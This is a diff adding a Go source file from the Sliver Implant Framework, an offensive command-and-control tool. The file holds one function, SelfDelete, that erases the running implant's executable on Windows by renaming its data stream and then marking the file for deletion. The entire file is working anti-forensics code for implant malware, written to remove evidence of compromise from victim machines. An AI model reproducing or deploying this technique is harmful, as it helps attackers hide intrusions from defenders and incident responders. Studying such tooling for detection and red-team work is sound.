@@ -0,0 +1,79 @@
+package limits
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"os"
+	"unsafe"
+
+	"golang.org/x/sys/windows"
+)
+
+const (
+	fileDispositionFlagDelete         = 0x1
+	fileDispositionFlagPosixSemantics = 0x2
+)
+
+type fileRenameInfo struct {
+	Flags          uint32
+	RootDirectory  windows.Handle
+	FileNameLength uint32
+	FileName       [16]uint16
+}
+
+// SelfDelete - Remove the implant's executable from disk, Windows won't delete an
+// image that is mapped into a process so we first rename its default data stream
+// and then mark the file for deletion
+func SelfDelete() error {
+	executable, err := os.Executable()
+	if err != nil {
+		return err
+	}
+	path, err := windows.UTF16PtrFromString(executable)
+	if err != nil {
+		return err
+	}
+
+	handle, err := windows.CreateFile(path, windows.DELETE|windows.SYNCHRONIZE, windows.FILE_SHARE_READ, nil, windows.OPEN_EXISTING, windows.FILE_ATTRIBUTE_NORMAL, 0)
+	if err != nil {
+		return err
+	}
+	stream, _ := windows.UTF16FromString(":sliver")
+	rename := fileRenameInfo{FileNameLength: uint32((len(stream) - 1) * 2)}
+	copy(rename.FileName[:], stream)
+	err = windows.SetFileInformationByHandle(handle, windows.FileRenameInfo, (*byte)(unsafe.Pointer(&rename)), uint32(unsafe.Sizeof(rename)))
+	windows.CloseHandle(handle)
+	if err != nil {
+		return err
+	}
+
+	handle, err = windows.CreateFile(path, windows.DELETE|windows.SYNCHRONIZE, windows.FILE_SHARE_READ, nil, windows.OPEN_EXISTING, windows.FILE_ATTRIBUTE_NORMAL, 0)
+	if err != nil {
+		return err
+	}
+	defer windows.CloseHandle(handle)
+	// Newer versions of Windows only release the name with POSIX semantics
+	flags := uint32(fileDispositionFlagDelete | fileDispositionFlagPosixSemantics)
+	err = windows.SetFileInformationByHandle(handle, windows.FileDispositionInfoEx, (*byte)(unsafe.Pointer(&flags)), uint32(unsafe.Sizeof(flags)))
+	if err != nil {
+		deleteFile := byte(1)
+		err = windows.SetFileInformationByHandle(handle, windows.FileDispositionInfo, &deleteFile, uint32(unsafe.Sizeof(deleteFile)))
+	}
+	return err
+}